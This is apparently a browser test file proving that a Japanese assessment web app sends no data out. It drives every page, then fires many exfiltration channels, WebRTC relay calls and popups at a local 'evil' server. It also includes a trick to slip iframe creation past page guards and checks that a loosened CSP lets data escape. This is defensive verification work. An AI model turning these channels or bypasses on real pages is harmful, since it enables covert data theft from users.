// The proof that nothing leaves (`cargo xtask prove`): in every form the whole way is driven while a server that answers
// everything, and the browser's own network log, record what is asked for. Then a script in the page tries 13 ways to send
// something out, while the page loads and afterwards, to another server and to the app's own. And the test of the test:
// with one line of the policy loosened, things do arrive.

import assert from "node:assert/strict";
import { readFileSync, writeFileSync } from "node:fs";
import net from "node:net";
import { join } from "node:path";
import { test } from "node:test";
import { pathToFileURL } from "node:url";
import { CHANNELS, sendOut } from "./channels.mjs";
import { DIST, SITE, startHost } from "./host.mjs";
import { launchChromium, launchFirefox, openApp, temporaryFolder } from "./lib.mjs";
import { go, says, until } from "./steps.mjs";

const PAGES = ["facility", "ask/2", "answers", "check/quick", "check/governance", "check/people", "check/assets", "check/protect",
  "check/continuity", "check/respond", "result", "loss", "budget", "plan", "documents", "data", "privacy"];
/** Time in which whatever was sent has arrived. Nothing tells that nothing will: where something must arrive, it is waited for. */
const settle = () => new Promise((done) => setTimeout(done, 1500));
const line = (text) => console.log(`proved: ${text}`);

/** The way of a user: a sample, every page with everything unfolded, answers, numbers, a note, a file. (Another language is another start.) */
async function drive(frame) {
  await frame.evaluate(() => { location.hash = "#/start?sample=hospital"; });
  await says(frame, "#notice", /読み取れました/);
  for (const name of PAGES) {
    await go(frame, name);
    await frame.$$eval("details", (all) => all.forEach((one) => { one.open = true; }));
    await frame.$$eval("fieldset.question", (all) => all.forEach((one, i) => one.querySelectorAll("label")[i % 4]?.click()));
    await frame.$$eval("main textarea, main input[type=text]", (all) => all.forEach((one) => {
      one.value = "12";
      one.dispatchEvent(new Event("input", { bubbles: true }));
      one.dispatchEvent(new Event("change", { bubbles: true }));
    }));
  }
  await says(frame, ".state", /最終保存|保存しないモード|保存できません/);
  await go(frame, "documents");
  await frame.evaluate(() => { dispatchEvent(new Event("beforeprint")); });
  await go(frame, "data");
  await frame.evaluate(() => document.querySelector("main > button.button:not(.warn)").click());
  await says(frame, "#notice", /ファイル/);
}

/** The files a first visit may ask for: the page, what the service worker keeps, and the worker. */
const kept = [...readFileSync(join(SITE, "sw.js"), "utf8").matchAll(/\["([^"]+)","sha256-/g)].map(([, name]) => name);
const STATIC = new Set(["sw.js", ...kept].map((name) => `GET /${name === "./" ? "" : name}`));

/**
 * What the browser asks for by itself, whatever page it shows: Chromium asks its maker what kind of fields a form has,
 * and after a page has loaded whether its service worker is still the newest.
 */
const BROWSER = /^CONNECT content-autofill\.googleapis\.com:443$|^GET http:[^ ]+\/sw\.js$/;

/** What arrived of the channels. */
const arrived = (server) => [...new Set(server.seen.filter((one) => one.includes("/leak/")).map((one) => one.split("/leak/")[1]))].sort();

/** Tries the channels as soon as the page's head is read, before its scripts have finished loading the app. */
const early = (to) => (page) => page.evaluateOnNewDocument(`if (self === top) {
  // Kept from before the page closed it, so that the policy alone stands against frames.
  const make = Document.prototype.createElement;
  addEventListener("DOMContentLoaded", () => {
    document.createElement = (name) => make.call(document, name);
    (${sendOut})(${JSON.stringify(to)});
  });
}`);

for (const kind of ["chromium", "firefox"]) {
  test(`hosted, ${kind}: only the app's own files are asked for, and nothing sent out arrives`, { timeout: 180_000 }, async () => {
    const host = await startHost({ dir: SITE });
    const evil = await startHost();
    const app = await openApp({ url: host.at(), kind, watched: kind === "chromium" });
    await app.page.waitForSelector("html[data-offline=ready]", { timeout: 30_000 });
    const loaded = host.seen.length;
    await drive(app.page);
    await settle();
    assert.deepEqual(host.seen.slice(loaded), [], "nothing after loading");
    assert.deepEqual(new Set(host.seen), STATIC, "the static files and nothing else");
    const others = (app.wire ?? []).filter((one) => !one.includes(`${new URL(host.at()).host}/`) && !BROWSER.test(one));
    assert.deepEqual(others, [], "nothing to anywhere else");
    for (const url of app.requests) assert.ok(url.startsWith(host.at()), url);
    line(`hosted, ${kind}: ${host.seen.length} requests while loading, 0 on the whole way`);

    app.expectProblem(/./);
    // Not under another name: the proxy lets only this one through.
    const names = [...await app.page.evaluate(sendOut, evil.at()), ...await app.page.evaluate(sendOut, host.at())];
    assert.equal(names.length, 2 * CHANNELS);
    await settle();
    assert.deepEqual([arrived(evil), arrived(host)], [[], []], "after loading");
    await app.close();

    // A fresh visit, with the attempts before the app has loaded: only the page's own policy stands.
    const again = await openApp({ url: host.at(), kind, until: "domcontentloaded",
      before: kind === "chromium" ? early(evil.at("localhost")) : undefined });
    again.expectProblem(/./);
    if (kind === "firefox") await again.page.evaluate(sendOut, evil.at("localhost"));
    await settle();
    assert.deepEqual(arrived(evil), []);
    await again.close();
    line(`hosted, ${kind}: 0 of ${CHANNELS} channels reached another server, 0 of ${CHANNELS} the app's own after loading`);
  });
}

test("offline: with the server gone the whole way asks for nothing", { timeout: 240_000 }, async () => {
  const host = await startHost({ dir: SITE });
  const app = await openApp({ url: host.at(), watched: true });
  await app.page.waitForSelector("html[data-offline=ready]", { timeout: 30_000 });
  await app.page.reload({ waitUntil: "load" });
  await app.page.waitForSelector("html[data-boot=ready]");
  await settle();
  await host.stop();
  const [wire, log] = [app.wire.length, app.requests.length];
  await drive(app.page);
  await settle();
  const sent = app.wire.slice(wire).filter((one) => !BROWSER.test(one));
  assert.deepEqual([sent, app.requests.slice(log)], [[], []]);
  await app.close();
  line("offline, chromium: 0 requests on the whole way");
});

for (const kind of ["chromium", "firefox"]) {
  test(`one file, ${kind}: no request at all, and nothing sent out arrives`, { timeout: 240_000 }, async () => {
    const evil = await startHost();
    const url = pathToFileURL(join(DIST, "sonae.html")).href;
    const app = await openApp({ url, kind, watched: kind === "chromium" });
    await drive(app.page);
    await settle();
    assert.deepEqual(app.requests.filter((asked) => !asked.startsWith("file:")), []);
    assert.deepEqual(app.wire ?? [], []);
    app.expectProblem(/./);
    assert.equal((await app.page.evaluate(sendOut, evil.at("localhost"))).length, CHANNELS);
    await settle();
    assert.deepEqual(evil.seen, []);
    await app.close();
    line(`one file, ${kind}: 0 requests, 0 of ${CHANNELS} channels`);
  });
}

test("embedded in another site: only the app's own files, and nothing sent out arrives", { timeout: 240_000 }, async () => {
  const app = await startHost({ dir: SITE });
  const evil = await startHost();
  const host = await startHost({ pages: { "/": `<!doctype html><title>host</title><link rel="icon" href="data:,">
    <script src="${app.at()}embed.js"></script><sonae-assessment lang="ja"></sonae-assessment>` } });
  const opened = await openApp({ url: host.at("localhost"), wait: false });
  const element = await opened.page.waitForSelector("sonae-assessment iframe");
  const frame = await element.contentFrame();
  await frame.waitForSelector("html[data-framed=fit][data-boot=ready]", { timeout: 30_000 });
  const before = [app.seen.length, host.seen.length];
  await drive(frame);
  await settle();
  assert.deepEqual([app.seen.slice(before[0]), host.seen.slice(before[1])], [[], []], "nothing after loading");
  const names = app.seen.map((one) => one.split(" ")[1]);
  assert.ok(names.every((name) => /^\/(embed\.(js|html)|frame-\w+\.js|(sonae|later|style|texts|notes)-[-\w]+\.(js|css|wasm|txt))$/.test(name)), names.join(" "));
  opened.expectProblem(/./);
  assert.equal((await frame.evaluate(sendOut, evil.at("localhost"))).length, CHANNELS);
  await settle();
  assert.deepEqual([arrived(evil), arrived(app)], [[], []]);
  await opened.close();
  line(`embedded, chromium: ${names.length} requests while loading, 0 on the whole way, 0 of ${CHANNELS} channels`);
});

/** Asks a relay for a way to a peer; the name that the relay is asked under is what would get out. Gives what hindered it. */
async function callPeer(port) {
  const said = [];
  const call = (Peer) => {
    const peer = new Peer({ iceServers: [{ urls: `turn:127.0.0.1:${port}?transport=tcp`, username: "answers", credential: "x" }], iceTransportPolicy: "relay" });
    peer.createDataChannel("x");
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  };
  const frame = () => { const one = document.createElement("iframe"); document.body.append(one); return one.contentWindow; };
  const second = () => { let asked = 0; const one = document.createElementNS("http://www.w3.org/1999/xhtml", { toString: () => asked++ ? "iframe" : "p" }); document.body.append(one); return one.contentWindow; };
  for (const where of [() => self, frame, second]) {
    for (const name of ["RTCPeerConnection", "webkitRTCPeerConnection"]) {
      try { call(where()[name]); said.push("called"); } catch (error) { said.push(error.name); }
    }
  }
  for (const open of [() => frame().open, () => document.open.bind(document)]) {
    try { said.push(open()(`http://127.0.0.1:${port}/leak`, "_blank", "popup") === null ? "closed" : "opened"); } catch (error) { said.push(error.name); }
  }
  // Time in which a call has reached the relay. Nothing tells that none will.
  await new Promise((done) => setTimeout(done, 2500));
  return said;
}

const kit = pathToFileURL(join(DIST, "sonae-kit.html")).href;
const one = pathToFileURL(join(DIST, "sonae.html")).href;
for (const kind of ["chromium", "firefox"]) {
  test(`no peer is called by WebRTC, from no form of the app, ${kind}`, { timeout: 180_000 }, async () => {
    const taken = [];
    const relay = net.createServer((socket) => { socket.on("data", (data) => taken.push(data.toString("latin1"))).on("error", () => {}); });
    await new Promise((done) => relay.listen(0, "127.0.0.1", done));
    const { port } = relay.address();
    const host = await startHost({ dir: SITE, pages: { "/plain": "<!doctype html><title>x</title><body>" } });
    const launched = kind === "firefox"
      ? await launchFirefox({ prefs: { "media.peerconnection.ice.loopback": true, "media.peerconnection.ice.obfuscate_host_addresses": false } })
      : await launchChromium({ args: ["--allow-loopback-in-peer-connection"] });
    const visit = async (url, ready) => {
      const page = await launched.newPage();
      await page.goto(url);
      if (ready) await page.waitForSelector("html[data-boot=ready]", { timeout: 30_000 });
      const said = await page.evaluate(callPeer, port);
      await page.close();
      return said;
    };
    try {
      for (const url of [host.at(), `${host.at()}embed.html`, one, kit]) {
        const said = await visit(url, true);
        assert.ok(!said.includes("called") && !said.includes("opened"), `${url}: ${said}`);
        assert.deepEqual(taken, [], url);
      }
      // The test of the test: a page without our lock does get through.
      assert.ok((await visit(`${host.at()}plain`, false)).includes("called"));
      await until(() => taken.length > 0, "the relay hears what is said to it");
    } finally {
      await launched.close();
      relay.close();
    }
    line(`WebRTC, ${kind}: 0 calls from 4 forms, ${taken.length} from a page without the lock`);
  });
}

// The test of the test. Each loosens one directive of the page's policy; something must then arrive.
const LOOSER = [
  ["connect-src", /connect-src 'self'/, "connect-src *", ["beacon", "eventsource", "fetch", "websocket", "xhr"]],
  ["img-src", /img-src 'self' data:/, "img-src *", ["background", "image"]],
  ["default-src", /default-src 'none'/, "default-src *", ["frame", "prefetch"]],
  ["form-action", /form-action 'none';/, "", ["form"]],
];
for (const [name, old, loose, expected] of LOOSER) {
  test(`with ${name} loosened the proof fails`, { timeout: 180_000 }, async () => {
    const evil = await startHost();
    const change = (path, bytes) => {
      if (path !== "/") return bytes;
      const html = bytes.toString();
      assert.match(html, old);
      // A form needs a frame to answer into.
      return Buffer.from(html.replace(old, loose).replace("default-src 'none'", name === "form-action" ? "default-src 'none'; frame-src *" : "default-src 'none'"));
    };
    const host = await startHost({ dir: SITE, change });
    const app = await openApp({ url: host.at(), before: early(evil.at("localhost")), until: "domcontentloaded" });
    app.expectProblem(/./);
    await until(() => expected.every((channel) => arrived(evil).includes(channel)), `all of ${expected} to arrive`);
    const found = arrived(evil);
    await app.close();
    line(`with ${name} loosened: ${found.join(", ")} arrived`);
  });
}

test("without the second policy, the app's own server would see what is sent", { timeout: 180_000 }, async () => {
  const host = await startHost({ dir: SITE, change: (path, bytes) =>
    /boot-/.test(path) ? Buffer.from(bytes.toString().replace(/default-src 'none'; img-src data:; manifest-src/, "manifest-src")) : bytes });
  const app = await openApp({ url: host.at() });
  app.expectProblem(/./);
  await app.page.evaluate(sendOut, host.at());
  await until(() => ["fetch", "image"].every((channel) => arrived(host).includes(channel)), "fetch and image to arrive");
  await app.close();
});

test("in the one file too, a loosened policy lets things out", { timeout: 180_000 }, async () => {
  const evil = await startHost();
  const file = join(temporaryFolder(), "loose.html");
  const html = readFileSync(join(DIST, "sonae.html"), "utf8");
  assert.match(html, /connect-src 'none'/);
  writeFileSync(file, html.replace("connect-src 'none'", "connect-src *"));
  const app = await openApp({ url: pathToFileURL(file).href, before: early(evil.at("localhost")), until: "domcontentloaded" });
  app.expectProblem(/./);
  await until(() => arrived(evil).includes("fetch"), "fetch to arrive");
  await app.close();
});
